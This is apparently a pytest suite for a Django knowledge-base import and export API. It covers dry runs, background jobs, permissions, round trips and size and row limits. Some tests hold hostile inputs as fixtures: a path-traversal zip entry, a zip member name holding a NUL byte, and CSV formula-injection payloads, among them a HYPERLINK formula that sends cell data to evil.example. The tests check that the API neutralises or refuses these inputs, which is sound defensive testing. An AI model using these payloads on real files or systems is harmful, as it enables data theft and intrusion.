"""POST /api/v1/imports/: a dry run that writes nothing, a job whose progress and result the API shows,
the admin scope and role as for the JSON import, and export → import round trips for every open format."""

from __future__ import annotations

import csv
import io
import json
import time
import zipfile
from pathlib import Path

import pytest
from celery.contrib.testing.worker import start_worker
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from accounts.models import Project
from accounts.services import project_create
from contextforge.celery import app as celery_app
from knowledge import services
from knowledge.models import ImportJob, KnowledgeItem
from tests.conftest import api_client_for
from tests.knowledge.test_importers import VAULT, zipped

pytestmark = pytest.mark.django_db


def upload(client, name: str, data: bytes | str, **params):
    data = data.encode() if isinstance(data, str) else data
    query = "&".join(f"{k}={v}" for k, v in {"project": "acme", **params}.items())
    return client.post(
        f"/api/v1/imports/?{query}", {"file": SimpleUploadedFile(name, data)}, format="multipart"
    )


@pytest.fixture
def admin(cast):
    return api_client_for(cast.owner)


def csv_rows(count: int) -> str:
    return "title,content\n" + "".join(f"Row {n},Fact number {n}.\n" for n in range(count))


def test_a_dry_run_answers_counts_and_the_first_50_rows_of_each_without_writing(admin):
    response = upload(admin, "facts.csv", csv_rows(60) + ",no title\n", dry_run=1)
    assert response.status_code == 200, response.content
    body = response.json()
    assert (body["format"], body["dry_run"], body["created"], body["failed"]) == ("csv", True, 60, 1)
    assert len(body["rows"]["created"]) == 50 and body["rows"]["created"][0]["title"] == "Row 0"
    assert body["rows"]["failed"] == [
        {"file": "facts.csv", "line": 62, "errors": {"title": ["A title is required."]}}
    ]
    assert not KnowledgeItem.objects.exists()


def test_a_raw_json_lines_body_is_imported_as_json_lines(admin):
    body = "\n".join(json.dumps({"title": f"T{n}", "content": "C"}) for n in range(3))
    response = admin.post(
        "/api/v1/imports/?project=acme&dry_run=1", body, content_type="application/x-ndjson"
    )
    assert response.status_code == 200, response.content
    assert (response.json()["format"], response.json()["created"]) == ("jsonl", 3)


def test_a_format_that_cannot_be_told_or_does_not_exist_is_a_400_naming_format(admin):
    assert "format" in upload(admin, "notes.txt", "hello", dry_run=1).json()
    response = upload(admin, "notes.md", "hello", format="docx", dry_run=1)
    assert response.status_code == 400 and "docx" in response.json()["format"][0]


def test_a_zip_that_escapes_its_folder_is_a_400_naming_the_archive(admin):
    response = upload(admin, "evil.zip", zipped({"../x.md": "# x"}))
    assert response.status_code == 400 and "evil.zip" in response.json()["file"][0]
    assert not ImportJob.objects.exists()


def test_importing_needs_the_admin_scope_and_the_admin_role(cast):
    data = csv_rows(1)
    assert upload(api_client_for(cast.owner), "a.csv", data, dry_run=1).status_code == 200
    assert (
        upload(api_client_for(cast.owner, scopes=["read", "write"]), "a.csv", data, dry_run=1).status_code
        == 403
    )
    for user in (cast.member, cast.viewer):
        response = upload(api_client_for(user), "a.csv", data, dry_run=1)
        assert response.status_code == 403 and "role" in response.json()["detail"]
    outsider = upload(api_client_for(cast.outsider), "a.csv", data, dry_run=1)
    assert outsider.status_code == 400 and "acme" in outsider.json()["project"][0]
    assert not KnowledgeItem.objects.exists()


def test_a_job_is_seen_only_by_admins_of_its_project(cast):
    job = services.import_job_create(
        project=cast.project, format="csv", name="a.csv", data=b"title,content\nT,C\n"
    )
    assert api_client_for(cast.owner).get(f"/api/v1/imports/{job.pk}/").status_code == 200
    assert api_client_for(cast.outsider).get(f"/api/v1/imports/{job.pk}/").status_code == 404
    assert api_client_for(cast.member).get(f"/api/v1/imports/{job.pk}/").status_code == 403


@pytest.mark.django_db(transaction=True)
def test_an_import_runs_as_a_job_that_a_real_worker_finishes_with_progress_and_result(cast, celery_broker):
    client = api_client_for(cast.owner)
    response = upload(client, "vault.zip", zipped(VAULT))
    assert response.status_code == 202, response.content
    job_id = response.json()["id"]
    assert response.json()["status"] == "queued"
    with start_worker(celery_app, pool="solo", perform_ping_check=False, shutdown_timeout=10):
        for _ in range(300):
            job = client.get(f"/api/v1/imports/{job_id}/").json()
            if job["status"] in ("done", "failed"):
                break
            time.sleep(0.1)
    assert job["status"] == "done", job
    assert (job["done"], job["total"], job["result"]["created"]) == (3, 3, 3)
    created = {row["item"] for row in job["result"]["rows"]["created"]}
    assert created == set(KnowledgeItem.objects.values_list("pk", flat=True))
    assert ImportJob.objects.get(pk=job_id).payload in (b"", memoryview(b""))


def test_a_failed_job_leaves_unreached_items_untouched_and_says_how_far_it_got(cast, monkeypatch):
    monkeypatch.setattr(services, "IMPORT_BATCH", 2)
    copy = services._copy_items
    calls = []

    def copy_then_fail(items):
        calls.append(len(items))
        if len(calls) == 2:
            raise RuntimeError("disk full")
        copy(items)

    monkeypatch.setattr(services, "_copy_items", copy_then_fail)
    job = services.import_job_create(
        project=cast.project, format="csv", name="rows.csv", data=csv_rows(5).encode()
    )
    job = services.import_job_run(job=job)
    assert job.status == "failed" and "2 of 5" in job.error and "disk full" in job.error
    assert sorted(KnowledgeItem.objects.values_list("title", flat=True)) == ["Row 0", "Row 1"]
    assert job.result["created"] == 2


# ----- round trips --------------------------------------------------------------------------------


SAMPLES = [
    {
        "title": 'Cache: "TTL" rules',
        "content": "  Sessions expire after 2 hours.\n\n- one\n- two\n",
        "tags": ["backend", "cache"],
        "created_at": "2024-01-02T03:04:05.123456+00:00",
        "updated_at": "2024-02-03T04:05:06+00:00",
    },
    {
        "title": "Ünïcode — and a, comma",
        "content": "---\nnot frontmatter\n---\nCafé; naïve.",
        "tags": [],
        "created_at": "2023-05-06T07:08:09+00:00",
        "updated_at": "2023-05-06T07:08:09+00:00",
    },
    {
        "title": "# Heading-like title",
        "content": "Text with a ## section marker\n## and a heading",
        "tags": ["adr"],
        "created_at": "2022-01-01T00:00:00+00:00",
        "updated_at": "2025-01-01T00:00:00+00:00",
    },
]


def as_rows(project) -> list[tuple]:
    items = KnowledgeItem.objects.filter(project=project).order_by("title")
    return [(i.title, i.content, i.tags, i.created_at, i.updated_at) for i in items]


@pytest.mark.parametrize(("format", "name"), [("jsonl", "x.jsonl"), ("markdown", "x.zip"), ("csv", "x.csv")])
def test_an_export_imports_into_an_empty_project_as_the_same_items(cast, eager_jobs, format, name):
    client = api_client_for(cast.owner)
    report = services.items_import(
        records=enumerate(SAMPLES, 1), default_project=cast.project, projects_by_slug={}
    )
    assert report.created == 3
    exported = client.get(f"/api/v1/items/export/?project=acme&format={format}")
    assert exported.status_code == 200
    data = b"".join(exported.streaming_content)
    project_create(name="Empty", slug="empty", owner=cast.owner)
    with eager_jobs(execute=True):
        response = client.post(
            f"/api/v1/imports/?project=empty&format={format}",
            {"file": SimpleUploadedFile(name, data)},
            format="multipart",
        )
    assert response.status_code == 202, response.content
    job = client.get(f"/api/v1/imports/{response.json()['id']}/").json()
    assert job["status"] == "done" and job["result"]["created"] == 3, (job["result"], job["error"])
    assert as_rows(Project.objects.get(slug="empty")) == as_rows(cast.project)


def test_the_export_filters_by_tag_and_refuses_an_unknown_format(cast):
    client = api_client_for(cast.owner)
    services.items_import(records=enumerate(SAMPLES, 1), default_project=cast.project, projects_by_slug={})
    lines = b"".join(
        client.get("/api/v1/items/export/?format=jsonl&tag=cache").streaming_content
    ).splitlines()
    assert [json.loads(line)["title"] for line in lines] == [SAMPLES[0]["title"]]
    archive = b"".join(client.get("/api/v1/items/export/?format=markdown").streaming_content)
    assert len(zipfile.ZipFile(io.BytesIO(archive)).namelist()) == 3
    response = client.get("/api/v1/items/export/?format=docx")
    assert response.status_code == 400 and "docx" in response.json()["format"][0]


def test_an_upload_over_the_size_limit_is_refused_by_the_api_the_page_and_the_service(cast, client, settings):
    settings.CONTEXTFORGE_MAX_IMPORT_BYTES = 20
    data = csv_rows(3)
    response = upload(api_client_for(cast.owner), "big.csv", data)
    assert response.status_code == 413 and "20" in response.json()["file"][0]
    raw = api_client_for(cast.owner).post("/api/v1/imports/?project=acme", data, content_type="text/csv")
    assert raw.status_code == 413
    client.force_login(cast.owner)
    page = client.post(
        "/dashboard/import/",
        {"project": cast.project.pk, "file": SimpleUploadedFile("big.csv", data.encode())},
    )
    assert "big.csv: larger than 20 bytes." in page.context["form"].errors["file"]
    with pytest.raises(ValidationError, match="larger than 20 bytes"):
        services.import_upload(project=cast.project, format="csv", name="big.csv", data=data.encode())
    assert not ImportJob.objects.exists() and not KnowledgeItem.objects.exists()


@pytest.mark.parametrize("param", ["dry_run", "prune"])
@pytest.mark.parametrize("value", ["", "maybe"])
def test_an_empty_or_unknown_import_flag_is_refused_naming_it_and_queues_nothing(admin, param, value):
    response = upload(admin, "facts.csv", csv_rows(2), **{param: value})
    assert response.status_code == 400 and param in response.json()
    assert not ImportJob.objects.exists() and not KnowledgeItem.objects.exists()


def test_a_zip_member_whose_name_holds_a_nul_is_refused_naming_it_and_writes_nothing(admin):
    data = zipped({"notes/a.md": "# A\n\nFine.\n", "notes/b.md#.exe": "# B\n\nHidden.\n"})
    data = data.replace(b"b.md#.exe", b"b.md\x00.exe")
    for dry_run in ("1", "0"):
        response = upload(admin, "vault.zip", data, dry_run=dry_run)
        assert response.status_code == 400, response.content
        assert "b.md\\x00.exe" in response.json()["file"][0]
    assert not ImportJob.objects.exists() and not KnowledgeItem.objects.exists()


FORMULAS = [
    {"title": '=HYPERLINK("http://evil.example/?"&A1,"Open")', "content": "+1+2", "tags": ["-ops", "@team"]},
    {"title": "@SUM(A1:A9)", "content": "-2+3 is a cell a spreadsheet would run", "tags": ["billing"]},
    {"title": "Tabbed", "content": "\t=1+1 starts with a tab", "tags": []},
    {"title": "Returned", "content": "\r=1+1 starts with a carriage return", "tags": []},
    {"title": "'Quoted already", "content": "'=1+1 a quote then a formula", "tags": ["'q"]},
    {"title": "Plain", "content": "Nothing to neutralise = here.", "tags": ["ops"]},
]


def test_a_csv_export_holds_no_formula_a_spreadsheet_runs_and_imports_back_unchanged(cast, eager_jobs):
    client = api_client_for(cast.owner)
    services.items_import(records=enumerate(FORMULAS, 1), default_project=cast.project, projects_by_slug={})
    data = b"".join(client.get("/api/v1/items/export/?project=acme&format=csv").streaming_content)
    sheet = list(csv.reader(io.StringIO(data.decode(), newline="")))
    cells = [cell for row in sheet[1:] for cell in row]
    assert len(sheet) == len(FORMULAS) + 1
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=HYPERLINK(" in data.decode() and "'+1+2" in data.decode() and "'-ops;@team" in data.decode()
    project_create(name="Empty", slug="empty", owner=cast.owner)
    with eager_jobs(execute=True):
        response = client.post(
            "/api/v1/imports/?project=empty&format=csv",
            {"file": SimpleUploadedFile("x.csv", data)},
            format="multipart",
        )
    job = client.get(f"/api/v1/imports/{response.json()['id']}/").json()
    assert job["status"] == "done" and job["result"]["created"] == len(FORMULAS), job
    assert as_rows(Project.objects.get(slug="empty")) == as_rows(cast.project)


def test_a_hand_made_csv_without_the_export_column_keeps_its_leading_quotes(cast):
    report = services.import_upload(
        project=cast.project, format="csv", name="mine.csv", data=b"title,content\n'=1,'+2\n", dry_run=False
    )
    assert report.created == 1
    item = KnowledgeItem.objects.get()
    assert (item.title, item.content) == ("'=1", "'+2")


# ----- limits and memory --------------------------------------------------------------------------


def memory_kb(field: str) -> int:
    """This process's VmRSS or VmHWM (its peak since the last reset_peak), in kB, from /proc."""
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1])
    raise AssertionError(f"no {field} in /proc/self/status")


def reset_peak() -> None:
    Path("/proc/self/clear_refs").write_text("5")  # VmHWM starts again from VmRSS


def test_a_three_million_row_csv_is_refused_with_413_naming_the_limit_and_memory_stays_bounded(admin):
    data = bytearray(b"title,content\n")
    for start in range(0, 3_000_000, 100_000):
        data += "".join(f"t{n},c\n" for n in range(start, start + 100_000)).encode()
    data = bytes(data)
    assert len(data) < settings.CONTEXTFORGE_MAX_IMPORT_BYTES  # within the size limit: the rows are refused
    for dry_run in ("1", "0"):
        reset_peak()
        before = memory_kb("VmRSS")
        response = upload(admin, "big.csv", data, dry_run=dry_run)
        growth = memory_kb("VmHWM") - before
        assert response.status_code == 413, response.content
        assert "100000" in response.json()["file"][0]
        # The upload itself is held a few times over (the multipart body, the file, its text); what
        # was refused is never held: 3 million rows as items took gigabytes.
        assert growth < 8 * len(data) // 1024, (growth, len(data) // 1024)
    assert not ImportJob.objects.exists() and not KnowledgeItem.objects.exists()


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("a.csv", "title,content\n" + "".join(f"T{n},C\n" for n in range(6))),
        ("a.jsonl", "".join(f'{{"title": "T{n}", "content": "C"}}\n' for n in range(6))),
        ("a.json", json.dumps([{"title": f"T{n}", "content": "C"} for n in range(6)])),
        ("mem0.json", json.dumps({"results": [{"id": str(n), "memory": f"M{n}"} for n in range(6)]})),
        ("vault.zip", zipped({f"notes/{n}.md": f"# N{n}\n\nText.\n" for n in range(6)})),
        ("CLAUDE.md", "".join(f"## S{n}\n\nText.\n" for n in range(6))),
    ],
)
def test_every_format_over_the_row_limit_is_refused_whole_before_anything_is_written(
    admin, settings, name, body
):
    settings.CONTEXTFORGE_IMPORT_MAX_ROWS = 5
    data = body if isinstance(body, bytes) else body.encode()
    for dry_run in ("1", "0"):
        response = upload(admin, name, data, dry_run=dry_run)
        assert response.status_code == 413 and "5" in response.json()["file"][0], response.content
    settings.CONTEXTFORGE_IMPORT_MAX_ROWS = 6
    assert upload(admin, name, data, dry_run=1).json()["created"] == 6
    assert not ImportJob.objects.exists() and not KnowledgeItem.objects.exists()


def test_the_import_page_answers_413_naming_the_row_limit(client, cast, settings):
    settings.CONTEXTFORGE_IMPORT_MAX_ROWS = 2
    client.force_login(cast.owner)
    upload = SimpleUploadedFile("a.csv", csv_rows(3).encode())
    page = client.post("/dashboard/import/", {"project": cast.project.pk, "file": upload})
    assert page.status_code == 413 and "CONTEXTFORGE_IMPORT_MAX_ROWS" in page.content.decode()
